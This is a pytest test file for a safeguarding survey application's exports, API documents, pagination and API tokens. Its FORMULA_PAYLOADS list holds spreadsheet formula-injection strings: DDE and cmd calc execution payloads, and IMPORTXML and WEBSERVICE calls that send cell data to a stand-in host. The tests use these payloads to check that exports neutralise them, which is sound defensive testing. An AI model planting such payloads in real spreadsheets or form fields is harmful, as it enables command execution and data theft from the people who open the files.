"""Exports (wide, long, CSV, XLSX), the API documents and API tokens: formulas stay inert,
flagged disclosures never leave, repeating groups keep stable ids."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from surveys import api, api_tokens
from surveys.definition import SurveyDefinition
from surveys.exports import (
    LONG_HEADER,
    WITHHELD,
    long_rows,
    wide_header,
    wide_row,
    withheld_questions,
    write_xlsx,
)
from surveys.loader import load_definition
from surveys.models import Cycle, CycleAudience, Organisation, Response, ResponseStatus
from surveys.spreadsheets import defuse, write_csv

FIXTURES = Path(__file__).parent / "fixtures"
CANARY = "CANARY-7f3e my uncle hurts me"

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://x","y")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=1+1",
    "=SUM(A1:A9)",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    '=WEBSERVICE("http://x")',
    "+cmd|' /C notepad'!'B1'",
    "-cmd|' /C calc'!A0",
    "@cmd|'/c calc'!A1",
    '=DDE("cmd";"/C calc";"!A0")',
    "=2*3",
    "+A1",
    "-A1",
    "@A1",
    '=HYPERLINK("javascript:alert(1)")',
    "=\u0000",
]


@pytest.fixture(scope="module")
def definition() -> SurveyDefinition:
    return load_definition(FIXTURES / "all-types.yaml")


def full_answers() -> dict[str, Any]:
    return {
        "agency_name": "North Police",
        "reference": "AB1234",
        "evidence": "We train staff yearly.",
        "sector": "police",
        "topics": ["neglect", "online"],
        "locality": "north",
        "relevance": "3",
        "feeling": "happy",
        "rating": {"value": "partially_met", "scale_version": 2},
        "has_lead": "yes",
        "lead_role": "Head of safeguarding",
        "staff_trained": 120,
        "review_date": "2024-03-01",
        "policy_file": {"filename": "policy.pdf", "content_type": "application/pdf", "size": 2048},
        "actions": [
            {"action": "Train staff", "due": "2025-01-31", "status": "done"},
            {"action": "Audit files", "due": None, "status": "not_started"},
        ],
        "confidence": {"before": 1, "after": 3},
        "_page_versions": {"text": 2},
    }


def make_response(
    number: int = 1,
    answers: dict[str, Any] | None = None,
    *,
    organisation: str | None = "North Police",
    flagged: bool = False,
) -> Response:
    return Response(
        id=number,
        cycle_id=7,
        reference=f"LL-TEST-{number:04d}",
        submission_id=f"sub-{number}",
        definition_key="all-types",
        definition_version=1,
        status=ResponseStatus.SUBMITTED,
        answers=full_answers() if answers is None else answers,
        submitted_at=datetime(2025, 3, 4, 10, 30, tzinfo=UTC),
        is_flagged=flagged,
        organisation_id=3 if organisation else None,
        organisation=Organisation(id=3, name=organisation) if organisation else None,
    )


def make_cycle() -> Cycle:
    return Cycle(
        id=7,
        title="Section 11 2025",
        definition_key="all-types",
        definition_version=1,
        audience=CycleAudience.ORGANISATIONS,
        opens_at=datetime(2025, 1, 1, tzinfo=UTC),
        closes_at=datetime(2025, 6, 1, tzinfo=UTC),
    )


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def workbook(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


# --- formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_formula_like_text_is_prefixed_with_a_quote(payload: str) -> None:
    assert defuse(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Police", "3 staff", "a=b", " =1", "", "'=quoted"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert defuse(value) == value


@pytest.mark.parametrize("number", [-2, -0.5, 0, 120, 3.25])
def test_numbers_stay_numbers(number: float) -> None:
    assert defuse(number) == number


def test_csv_cells_holding_formulas_are_inert() -> None:
    header = ["reference", "answer", "count"]
    rows = [[f"LL-{i}", payload, -i] for i, payload in enumerate(FORMULA_PAYLOADS)]
    parsed = read_csv(write_csv(header, rows))
    assert parsed[0] == header
    for (reference, answer, count), payload, i in zip(
        parsed[1:], FORMULA_PAYLOADS, range(len(FORMULA_PAYLOADS)), strict=True
    ):
        assert answer == "'" + payload
        assert count == str(-i)  # a negative number is a number, not a formula
        assert reference == f"LL-{i}"


def test_xlsx_never_stores_a_formula_and_text_round_trips(definition: SurveyDefinition) -> None:
    responses = []
    for number, payload in enumerate(FORMULA_PAYLOADS, start=1):
        answers = full_answers() | {"evidence": payload, "agency_name": payload}
        responses.append(make_response(number, answers, organisation=payload[:150]))
    data = write_xlsx(make_cycle(), definition, responses, flags={})
    book = workbook(data)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    sheet = book["Responses"]
    header = [cell.value for cell in sheet[1]]
    evidence = header.index("evidence")
    for row, payload in zip(sheet.iter_rows(min_row=2), FORMULA_PAYLOADS, strict=True):
        expected = "'" + payload.replace("\x00", "\ufffd")
        assert row[evidence].value == expected
        assert row[evidence].data_type == "s"
        assert row[header.index("staff_trained")].value == 120
        assert row[header.index("staff_trained")].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets"))
    assert b"<f>" not in xml and b"<f " not in xml


# --- wide and long layouts ------------------------------------------------------------------


def test_wide_row_has_one_column_per_question_with_readable_values(
    definition: SurveyDefinition,
) -> None:
    header = wide_header(definition)
    row = dict(zip(header, wide_row(make_response(), definition, frozenset()), strict=True))
    assert header[:5] == [
        "Response reference",
        "Organisation name",
        "Response status",
        "Submitted at",
        "Form version",
    ]
    assert row["Organisation name"] == "North Police"
    assert row["Response status"] == "Submitted"
    assert row["Submitted at"] == "2025-03-04T10:30:00+00:00"
    assert row["reference"] == "AB1234"  # the question "reference" keeps its own column
    assert row["topics"] == "Neglect; Online safety"
    assert row["rating"] == "Partially met"
    assert row["sector"] == "Police"
    assert row["has_lead"] == "Yes"
    assert row["staff_trained"] == 120
    assert row["review_date"] == "2024-03-01"
    assert row["policy_file"] == "policy.pdf"
    assert row["actions"] == 2
    assert (row["confidence_before"], row["confidence_after"]) == (1, 3)
    assert "confidence" not in row and "_page_versions" not in header


def test_anonymous_response_and_missing_answers(definition: SurveyDefinition) -> None:
    response = make_response(answers={"sector": "health"}, organisation=None)
    row = dict(zip(wide_header(definition), wide_row(response, definition, ()), strict=True))
    assert row["Organisation name"] == "Anonymous"
    assert row["sector"] == "Health"
    assert row["evidence"] is None and row["confidence_before"] is None


def test_long_rows_keep_repeating_group_rows_with_stable_ids(definition: SurveyDefinition) -> None:
    rows = [
        dict(zip(LONG_HEADER, row, strict=True))
        for row in long_rows(make_response(), definition, ())
    ]
    by_id = {row["answer_id"]: row for row in rows}
    assert len(by_id) == len(rows)  # ids are unique
    action = by_id["LL-TEST-0001/actions/2/action"]
    assert (action["row_number"], action["field_id"], action["value"]) == (
        2,
        "action",
        "Audit files",
    )
    assert action["question_label"] == "Action plan" and action["page_id"] == "plan"
    assert by_id["LL-TEST-0001/actions/1/status"]["display_value"] == "Done"
    assert by_id["LL-TEST-0001/actions/1/due"]["display_value"] == "31 January 2025"
    assert "LL-TEST-0001/actions/2/due" not in by_id  # blank cells are not answers
    assert by_id["LL-TEST-0001/topics"]["value"] == "neglect; online"
    assert by_id["LL-TEST-0001/confidence/after"]["value"] == 3
    assert by_id["LL-TEST-0001/rating"]["value"] == "partially_met"
    again = long_rows(make_response(), definition, ())
    assert [row[0] for row in again] == [row["answer_id"] for row in rows]


def test_xlsx_has_a_sheet_per_repeating_group_keyed_by_reference_and_row(
    definition: SurveyDefinition,
) -> None:
    responses = [make_response(1), make_response(2, organisation=None)]
    book = workbook(write_xlsx(make_cycle(), definition, responses, flags={}))
    assert book.sheetnames == ["Responses", "Answers", "actions", "Questions"]
    rows = list(book["actions"].iter_rows(values_only=True))
    assert rows[0] == (
        "Row id",
        "Response reference",
        "Organisation name",
        "Row number",
        "action",
        "due",
        "status",
    )
    assert rows[1] == (
        "LL-TEST-0001/actions/1",
        "LL-TEST-0001",
        "North Police",
        1,
        "Train staff",
        "2025-01-31",
        "Done",
    )
    assert rows[4][:4] == ("LL-TEST-0002/actions/2", "LL-TEST-0002", "Anonymous", 2)
    assert len(list(book["Answers"].iter_rows())) == 1 + 2 * len(
        long_rows(make_response(), definition, ())
    )


# --- flagged disclosures --------------------------------------------------------------------


def flagged_response() -> Response:
    return make_response(answers=full_answers() | {"evidence": CANARY}, flagged=True)


def test_flagged_answer_is_withheld_in_wide_and_long(definition: SurveyDefinition) -> None:
    response = flagged_response()
    withheld = withheld_questions(response, definition, {"evidence"})
    row = dict(zip(wide_header(definition), wide_row(response, definition, withheld), strict=True))
    assert row["evidence"] == WITHHELD
    assert row["agency_name"] == "North Police"  # only the flagged answer goes
    long = long_rows(response, definition, withheld)
    evidence = [row for row in long if row[4] == "evidence"]
    assert evidence == [
        [
            "LL-TEST-0001/evidence",
            "LL-TEST-0001",
            "North Police",
            "text",
            "evidence",
            "Describe your evidence",
            None,
            None,
            WITHHELD,
            WITHHELD,
        ]
    ]
    assert CANARY not in repr(long) and CANARY not in repr(row)


def test_flagged_answer_never_reaches_csv_xlsx_or_api(definition: SurveyDefinition) -> None:
    response = flagged_response()
    withheld = withheld_questions(response, definition, {"evidence"})
    csv_bytes = write_csv(wide_header(definition), [wide_row(response, definition, withheld)])
    long_bytes = write_csv(LONG_HEADER, long_rows(response, definition, withheld))
    xlsx = write_xlsx(make_cycle(), definition, [response], flags={1: {"evidence"}})
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist())
    document = api.response_document(response, definition, ["evidence"])
    for blob in (csv_bytes, long_bytes, xml, repr(document).encode()):
        assert b"CANARY-7f3e" not in blob
        assert WITHHELD.encode() in blob
    assert document["answers"]["evidence"] == WITHHELD
    assert document["withheld"] == ["evidence"]


def test_flagged_repeating_group_and_confidence_are_withheld_everywhere(
    definition: SurveyDefinition,
) -> None:
    response = make_response(answers=full_answers() | {"actions": [{"action": CANARY}]})
    withheld = withheld_questions(response, definition, {"actions", "confidence"})
    row = dict(zip(wide_header(definition), wide_row(response, definition, withheld), strict=True))
    assert (row["actions"], row["confidence_before"], row["confidence_after"]) == (WITHHELD,) * 3
    book = workbook(write_xlsx(make_cycle(), definition, [response], flags={1: withheld}))
    group = list(book["actions"].iter_rows(values_only=True))
    assert (
        group[1] == ("LL-TEST-0001/actions", "LL-TEST-0001", "North Police", None) + (WITHHELD,) * 3
    )
    assert CANARY not in repr(long_rows(response, definition, withheld))


def test_flagged_response_without_flag_rows_withholds_all_free_text(
    definition: SurveyDefinition,
) -> None:
    """Fail closed: is_flagged with no DisclosureFlag rows must not leak the text."""
    response = flagged_response()
    withheld = withheld_questions(response, definition, set())
    assert {"agency_name", "reference", "evidence", "lead_role", "actions"} <= withheld
    assert "sector" not in withheld
    unknown = withheld_questions(make_response(), definition, {"no_such_question"})
    assert "evidence" in unknown


# --- API documents --------------------------------------------------------------------------


def test_response_document_has_the_documented_fields(definition: SurveyDefinition) -> None:
    document = api.response_document(make_response(), definition, [])
    assert document["reference"] == "LL-TEST-0001"
    assert document["organisation"] == {"id": 3, "name": "North Police"}
    assert document["status"] == "submitted"
    assert document["submitted_at"] == "2025-03-04T10:30:00+00:00"
    assert document["answers"]["confidence"] == {"before": 1, "after": 3}
    assert "_page_versions" not in document["answers"] and document["withheld"] == []
    anonymous = api.response_document(make_response(organisation=None), definition, [])
    assert anonymous["organisation"] is None


def test_page_document_links_neighbouring_pages() -> None:
    page = api.page_document(
        [{"id": 1}], page=2, per_page=10, total=25, url="/api/v1/cycles/7/responses"
    )
    assert page["meta"] == {"page": 2, "per_page": 10, "total": 25, "pages": 3}
    assert page["links"]["prev"].endswith("page=1&per_page=10")
    assert page["links"]["next"].endswith("page=3&per_page=10")
    last = api.page_document([], page=3, per_page=10, total=25, url="/x")
    assert last["links"]["next"] is None
    empty = api.page_document([], page=1, per_page=10, total=0, url="/x")
    assert empty["meta"]["pages"] == 1 and empty["links"]["prev"] is None


@pytest.mark.parametrize(
    ("page", "per_page", "expected"),
    [(None, None, (1, 50)), ("", "", (1, 50)), ("3", "200", (3, 200)), ("1", "1", (1, 1))],
)
def test_pagination_reads_the_query_string(
    page: str | None, per_page: str | None, expected: tuple[int, int]
) -> None:
    assert api.parse_pagination(page, per_page) == expected


@pytest.mark.parametrize(
    ("page", "per_page"),
    [
        ("0", None),
        ("-1", None),
        ("abc", None),
        ("1.5", None),
        (None, "201"),
        ("٣", None),
        ("9" * 40, None),
    ],
)
def test_bad_pagination_is_a_400(page: str | None, per_page: str | None) -> None:
    with pytest.raises(api.ApiError) as raised:
        api.parse_pagination(page, per_page)
    assert raised.value.status == 400
    assert raised.value.document()["status"] == 400


def _resolve(document: dict[str, Any], ref: str) -> Any:
    node: Any = document
    for part in ref.removeprefix("#/").split("/"):
        node = node[part]
    return node


def _refs(node: Any) -> list[str]:
    if isinstance(node, dict):
        return (
            [node["$ref"]]
            if "$ref" in node
            else [r for value in node.values() for r in _refs(value)]
        )
    if isinstance(node, list):
        return [r for value in node for r in _refs(value)]
    return []


def test_openapi_document_describes_the_read_only_routes() -> None:
    document = api.openapi_document("https://loop.example.gov.uk/")
    assert document["openapi"].startswith("3.1")
    assert document["servers"] == [{"url": "https://loop.example.gov.uk/api/v1"}]
    assert set(document["paths"]) == {
        "/cycles",
        "/cycles/{cycle_id}/responses",
        "/responses/{response_id}",
        "/returns",
        "/returns/{return_id}",
        "/challenges",
        "/actions",
        "/case-reviews",
        "/national-reviews",
        "/audit-findings",
    }
    assert document["components"]["securitySchemes"]["bearerAuth"] == {
        "type": "http",
        "scheme": "bearer",
        "description": "An API token issued by a partnership admin",
    }
    for path, item in document["paths"].items():
        assert set(item) == {"get"}  # read-only
        operation = item["get"]
        assert operation["security"] == [{"bearerAuth": []}]
        assert "401" in operation["responses"]
        if "{" in path:
            assert "404" in operation["responses"]
    names = [
        _resolve(document, ref)["name"]
        for ref in _refs(document["paths"]["/cycles/{cycle_id}/responses"])
        if ref.startswith("#/components/parameters")
    ]
    assert names == ["cycle_id", "page", "per_page"]
    for ref in _refs(document):
        assert _resolve(document, ref) is not None  # every $ref resolves
    assert {"Cycle", "Response", "Problem"} <= set(document["components"]["schemas"])


def test_response_document_matches_its_schema(definition: SurveyDefinition) -> None:
    schema = api.openapi_document("http://x")["components"]["schemas"]["Response"]
    document = api.response_document(make_response(), definition, [])
    assert set(schema["required"]) <= set(document)
    assert set(document) <= set(schema["properties"])


# --- API tokens -----------------------------------------------------------------------------


def test_new_tokens_are_random_and_only_their_hash_is_needed() -> None:
    raw, digest = api_tokens.new_token()
    other, _ = api_tokens.new_token()
    assert raw != other and raw.startswith(api_tokens.TOKEN_PREFIX)
    assert len(raw) >= 40 and re.fullmatch(r"[0-9a-f]{64}", digest)
    assert api_tokens.token_hash(raw) == digest != api_tokens.token_hash(other)
    assert raw not in digest and api_tokens.display_prefix(raw) == raw[:10]


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("Bearer llt_abc", "llt_abc"),
        ("bearer   llt_abc  ", "llt_abc"),
        ("Basic llt_abc", None),
        ("Bearer", None),
        ("Bearer other_token", None),
        ("Bearer llt_" + "a" * 200, None),
        ("Bearer llt_a b", None),
        (None, None),
        ("", None),
    ],
)
def test_bearer_token_is_read_from_the_authorization_header(
    header: str | None, expected: str | None
) -> None:
    assert api_tokens.bearer_token(header) == expected
